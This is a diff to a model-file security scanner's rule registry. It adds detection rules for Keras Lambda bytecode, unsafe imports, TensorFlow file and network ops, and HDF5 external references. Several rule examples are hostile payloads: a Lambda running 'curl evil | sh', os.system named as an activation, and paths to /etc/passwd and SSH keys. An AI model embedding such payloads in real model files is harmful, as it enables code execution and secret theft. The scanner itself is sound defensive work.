@@ -64,12 +64,12 @@ SCAN_FORMAT_NOT_ANALYSED = register_rule(
         severity=Severity.LOW,
         title="Format recognised but not analysed",
         what="Reports content of a format that modelshield recognises but does not analyse yet "
-        "(HDF5/Keras, GGUF, safetensors, ONNX). The file is marked as not fully analysed.",
+        "(GGUF, safetensors, ONNX). The file is marked as not fully analysed.",
         why="A scanner that passes what it did not read gives a clean verdict on something it "
-        "never checked. Keras H5 files carry Lambda-layer bytecode and GGUF files carry chat "
-        "templates that servers render; until a reader for the format lands, the run fails "
-        "closed (exit code 2) unless the policy accepts the gap.",
-        example="`model.h5` (HDF5) inside a scanned folder.",
+        "never checked. GGUF files carry chat templates that servers render; until a reader "
+        "for the format lands, the run fails closed (exit code 2) unless the policy accepts "
+        "the gap.",
+        example="`model.gguf` inside a scanned folder.",
         references=("CWE-693",),
         incomplete=True,
     )
@@ -198,9 +198,9 @@ ARCHIVE_UNSUPPORTED = register_rule(
         severity=Severity.MEDIUM,
         title="Container recognised but not opened",
         what="Reports a container or compressed stream whose format was recognised but that "
-        "could not be opened: RAR, zstd or 7z without their optional packages, or a zip "
-        "member with a compression method this scanner does not implement. The message names "
-        "what to install.",
+        "could not be opened: RAR, zstd or 7z without their optional packages, an HDF5 file "
+        "(Keras `.h5`) without h5py (the `hdf5` extra), or a zip member with a compression "
+        "method this scanner does not implement. The message names what to install.",
         why="What was not opened was not analysed, so it cannot be called safe; loaders with "
         "more codecs installed may read it just fine.",
         example="A `.7z` checkpoint scanned where `py7zr` is not installed.",
@@ -402,5 +402,240 @@ NUMPY_TRUNCATED = register_rule(
         "was cut or edited after it was written.",
         example="`shape: (1000, 1000)` of `<f4` with only 1 KB of data.",
         references=_NPY_REFS,
+    )
+)
+
+
+# ---- Keras (config.json, .h5 model_config, keras_metadata.pb) -----------------------------
+
+_KERAS_SAVING = "https://keras.io/guides/serialization_and_saving/"
+
+KERAS_LAMBDA = register_rule(
+    Rule(
+        id="KERAS-LAMBDA",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Keras Lambda layer carries Python code",
+        what="Reports a `Lambda` layer (or any `__lambda__` object) in a Keras model config whose "
+        "function is marshalled Python bytecode or Python source. The bytecode is decoded "
+        "without `marshal` and the names and constants it uses are listed as evidence; the "
+        "finding is critical when they include a dangerous callable (`os.system`, `eval`, "
+        "`__import__`...), judged by the callable policy.",
+        why="Keras rebuilds the function with `marshal.loads` and runs it when the model is "
+        "called (Keras 2 and tf.keras before 2.13 always; Keras 3 when `safe_mode=False`, and "
+        "for `.h5` files in versions that ignored `safe_mode` there). Bytecode can compute the "
+        "names it calls, so a Lambda is never less than high even when its names look "
+        "harmless: review it, or re-save the model with a registered custom layer instead.",
+        example="`Lambda(lambda x: __import__('os').system('curl evil | sh') or x)` saved to "
+        "`model.h5`.",
+        references=("CVE-2024-3660", "CVE-2025-9905", "CWE-94", _KERAS_SAVING),
+    )
+)
+
+KERAS_UNSAFE_IMPORT = register_rule(
+    Rule(
+        id="KERAS-UNSAFE-IMPORT",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Keras config names an object outside Keras' modelling objects",
+        what="Reports a `module`/`class_name` (or a `function` reference) in a Keras config "
+        "that is not one of Keras' own layers, operations, optimizers, losses, metrics, "
+        "initializers, regularizers, constraints or activations (the generated list in "
+        "`scanner/data/keras_objects.toml`). Names outside Keras are judged by the callable "
+        "policy: a dangerous callable is reported at its severity (at least high), an "
+        "unknown one at medium. Keras' non-modelling APIs (`keras.utils.get_file`, "
+        "`keras.config.enable_unsafe_deserialization`, `keras.models.load_model`...) are "
+        "high.",
+        why="Keras before 3.9 imports whatever module a config names and calls what it finds, "
+        "even with `safe_mode=True`; later versions still rebuild objects of allowed "
+        "packages, and non-modelling Keras APIs have been used to download files or switch "
+        "safe mode off from inside a config.",
+        example='`{"module": "os", "class_name": "function", "config": "system"}` as a '
+        "layer's activation.",
+        references=("CVE-2025-1550", "CVE-2025-8747", "CVE-2025-9906", "CWE-470", _KERAS_SAVING),
+    )
+)
+
+KERAS_CUSTOM_OBJECT = register_rule(
+    Rule(
+        id="KERAS-CUSTOM-OBJECT",
+        pillar="scan",
+        severity=Severity.LOW,
+        title="Keras model needs custom objects",
+        what="Reports a class or function that a Keras config names without a module to import "
+        "it from (or with a registered `package>name`), which Keras resolves only through "
+        "objects registered or passed by the loading program.",
+        why="The code of a custom object is not in the file: loading runs whatever the loading "
+        "program registered under that name. Not an attack by itself, but it tells a "
+        "reviewer which code the model depends on.",
+        example='`{"class_name": "MyAttention", "registered_name": "mylib>MyAttention"}`.',
+        references=(_KERAS_SAVING,),
+    )
+)
+
+KERAS_EXTERNAL_MODEL = register_rule(
+    Rule(
+        id="KERAS-EXTERNAL-MODEL",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="Keras layer loads a model or pickle from outside its config",
+        what="Reports a `TFSMLayer` (which loads the TensorFlow SavedModel at its `filepath` "
+        "when the model is rebuilt) and a `TorchModuleWrapper` (whose config holds a "
+        "`torch.save` archive that Keras reloads with `torch.load`; the embedded archive is "
+        "also analysed by content).",
+        why="A TFSMLayer runs the graph of a SavedModel the scanned file does not contain, from "
+        "any path or bucket the attacker chose; a TorchModuleWrapper unpickles its module.",
+        example='`{"class_name": "TFSMLayer", "config": {"filepath": "/tmp/evil_savedmodel"}}`.',
+        references=("CVE-2026-1462", "CWE-502", _KERAS_SAVING),
+    )
+)
+
+KERAS_FILE_REFERENCE = register_rule(
+    Rule(
+        id="KERAS-FILE-REFERENCE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Keras config refers to a file path or URL",
+        what="Reports string values of a Keras config that are URLs (`http://`, `gs://`, "
+        "`file://`...), absolute paths, home-relative paths or paths climbing with `..`.",
+        why="Layers and utilities read the files a config names while rebuilding the model "
+        "(lookup-layer vocabularies, `get_file` downloads, SavedModel paths): a model file "
+        "then reads or fetches something its reviewer never saw.",
+        example='`"vocabulary": "/etc/passwd"` in a `StringLookup` layer.',
+        references=("CWE-22", "CWE-918"),
+    )
+)
+
+KERAS_CONFIG_INVALID = register_rule(
+    Rule(
+        id="KERAS-CONFIG-INVALID",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="Keras model config could not be analysed",
+        what="Reports a Keras model config (`config.json`, an `.h5` `model_config`, Keras "
+        "metadata in a SavedModel) that is not valid JSON, is larger than "
+        "`limits.max_document_bytes`, or nests deeper than the JSON reader allows.",
+        why="What was not parsed was not analysed, and Keras may still read it (its JSON reader "
+        "differs from the scanner's on edge cases).",
+        example="A `config.json` of 200 MB, or one nested a million levels deep.",
+        references=("CWE-20",),
+        incomplete=True,
+    )
+)
+
+
+# ---- TensorFlow SavedModel and GraphDef -------------------------------------------------------
+
+_TF_SECURITY = "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md"
+
+TF_UNSAFE_OP = register_rule(
+    Rule(
+        id="TF-UNSAFE-OP",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="TensorFlow graph calls Python or touches files or the network",
+        what="Reports graph and function-library nodes of a SavedModel (`saved_model.pb`) or "
+        "frozen GraphDef whose op runs Python callbacks (`PyFunc`, `EagerPyFunc`), reads or "
+        "lists files (`ReadFile`, `MatchingFiles`, `ImmutableConst`, readers, file "
+        "datasets), writes files (`WriteFile`, summary writers, `PrintV2` to a file, dataset "
+        "savers), or reaches the network (RPC ops). Checkpoint ops (`SaveV2`, `RestoreV2`, "
+        "`MergeV2Checkpoints`, vocabulary-file tables) are expected in the saver functions and "
+        "are reported only when their path is a constant baked into the graph. Constant "
+        "strings feeding the node are given as evidence.",
+        why="A SavedModel is a program: TensorFlow runs these ops when the model is served or "
+        "called (and at load time when they sit in an init op), so a graph can read "
+        "`~/.ssh/id_rsa` into its output, overwrite files, or call back into Python. Models "
+        "need none of them to compute.",
+        example='A `WriteFile` node writing to `"/home/user/.bashrc"` in the serving function.',
+        references=(_TF_SECURITY, "CWE-94", "CWE-73"),
+    )
+)
+
+TF_ASSET_PATH = register_rule(
+    Rule(
+        id="TF-ASSET-PATH",
+        pillar="scan",
+        severity=Severity.HIGH,
+        title="SavedModel asset path escapes the model folder",
+        what="Reports a SavedModel asset (`asset_file_def`) whose file name is absolute or "
+        "climbs out of the `assets/` folder with `..`.",
+        why="The loader joins asset names to the model's `assets/` folder and hands the path to "
+        "the graph (vocabulary tables, file readers): an absolute name makes the model read a "
+        "file of the host instead of its own.",
+        example='An asset named `"../../../../etc/passwd"`.',
+        references=("CWE-22",),
+    )
+)
+
+TF_PROTOBUF_MALFORMED = register_rule(
+    Rule(
+        id="TF-PROTOBUF-MALFORMED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="TensorFlow protobuf could not be parsed",
+        what="Reports a SavedModel, GraphDef or Keras metadata protobuf whose wire format is "
+        "broken (a length past the end of its message, a varint longer than 10 bytes, an "
+        "unknown wire type) or nests attribute values deeper than the scanner follows. What "
+        "was read before the problem was analysed.",
+        why="The part after the problem was not analysed; and protobuf readers recover "
+        "differently from broken input, so the loader may see nodes the scanner did not.",
+        example="A node whose name claims 2**62 bytes.",
+        references=("CWE-20",),
+        incomplete=True,
+    )
+)
+
+
+# ---- HDF5 -------------------------------------------------------------------------------------
+
+HDF5_EXTERNAL_REFERENCE = register_rule(
+    Rule(
+        id="HDF5-EXTERNAL-REFERENCE",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="HDF5 file links to or reads data from other files",
+        what="Reports HDF5 external links, datasets with external raw storage and virtual "
+        "datasets, with the file they name. High when that file is absolute or climbs out of "
+        "the model's folder.",
+        why="Reading such a dataset (Keras reads every weight) reads the other file: a model "
+        "can pull `/etc/shadow` or a private key into its weights, or depend on data nobody "
+        "reviewed. Keras never writes them.",
+        example="A weight dataset whose external storage is `/home/user/.ssh/id_rsa`.",
+        references=("https://docs.hdfgroup.org/hdf5/develop/group___h5_l.html", "CWE-73"),
+    )
+)
+
+HDF5_DATASET_OVERSIZED = register_rule(
+    Rule(
+        id="HDF5-DATASET-OVERSIZED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="HDF5 dataset declares far more data than the file stores",
+        what="Reports a dataset whose declared size (shape times element size) is above "
+        "`limits.max_decompressed_bytes`, or above `limits.max_compression_ratio` times the "
+        "storage it really has once past `limits.ratio_check_min_bytes`. Dataset contents are "
+        "never read by the scanner.",
+        why="A loader that reads the dataset allocates the declared size: a few kilobytes of "
+        "file can claim terabytes and exhaust the memory of whatever loads the model.",
+        example="A 1 KiB `.h5` with a chunked dataset of 2**40 float32 elements.",
+        references=("CWE-400", "CWE-409"),
+    )
+)
+
+HDF5_NOT_ANALYSED = register_rule(
+    Rule(
+        id="HDF5-NOT-ANALYSED",
+        pillar="scan",
+        severity=Severity.MEDIUM,
+        title="HDF5 file could not be read fully",
+        what="Reports an HDF5 file (a Keras `.h5` model or a `model.weights.h5` inside a "
+        "`.keras` archive) whose structure the HDF5 library could not read, that held more "
+        "objects or attributes than the limits allow, or whose reader process failed or ran "
+        "out of time or memory. Findings made before the problem are kept.",
+        why="What was not read was not analysed; HDF5 readers differ in what they tolerate, so "
+        "the loader may see the attributes the scanner did not.",
+        example="An `.h5` with 40,000 attributes on one group, or a corrupted object header.",
+        references=("CWE-20",),
+        incomplete=True,
     )
 )
